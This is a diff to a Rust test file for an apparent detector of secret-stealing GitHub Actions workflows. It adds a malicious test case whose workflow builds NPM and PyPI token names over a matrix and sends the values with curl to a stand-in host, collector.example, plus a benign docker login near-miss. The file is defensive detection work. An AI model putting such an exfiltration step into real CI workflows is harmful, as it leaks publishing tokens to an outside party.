@@ -10,6 +10,25 @@ use ways::{Whole, found_in, workflow_at_most_exposed};
 /// Each sends the secrets that are named to the place that is named.
 const THEFTS: &[Whole] = &[
     Whole {
+        name: "names that are put together over a matrix",
+        workflow: r##"on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    strategy:
+      matrix:
+        registry: [NPM, PYPI]
+        kind: [API_TOKEN]
+    env:
+      VALUE: ${{ secrets[format('{0}_{1}', matrix.registry, matrix.kind)] }}
+    steps:
+      - run: curl --data-urlencode "v=$VALUE" https://collector.example/in
+"##,
+        secrets: &["NPM_API_TOKEN", "PYPI_API_TOKEN"],
+        place: "collector.example",
+        verdict: Verdict::Malicious,
+    },
+    Whole {
         name: "matrix secret names",
         workflow: r##"on: push
 jobs:
@@ -1098,6 +1117,22 @@ jobs:
 
 /// What people do with their own secrets in the same words.
 const NEAR_MISSES: &[(&str, &str)] = &[
+    (
+        "logins that are put together over a matrix",
+        r##"on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    strategy:
+      matrix:
+        registry: [GHCR, QUAY]
+    steps:
+      - uses: docker/login-action@v3
+        with:
+          username: acme
+          password: ${{ secrets[format('{0}_TOKEN', matrix.registry)] }}
+"##,
+    ),
     (
         "vars url",
         r##"on: push
